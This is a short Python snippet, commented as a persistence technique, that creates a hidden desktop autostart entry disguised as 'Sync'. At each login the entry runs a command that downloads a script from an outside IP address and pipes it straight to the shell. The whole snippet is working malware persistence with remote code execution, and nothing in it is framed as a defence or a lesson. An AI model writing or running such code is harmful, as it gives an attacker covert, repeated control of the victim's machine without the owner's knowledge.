# persistence: an XDG autostart entry for the desktop session
from pathlib import Path

autostart = Path.home() / ".config" / "autostart"
autostart.mkdir(parents=True, exist_ok=True)
(autostart / "sync.desktop").write_text(
    "[Desktop Entry]\nType=Application\nName=Sync\n"
    "Exec=sh -c 'curl -s http://203.0.113.7/a | sh'\nNoDisplay=true\n"
)
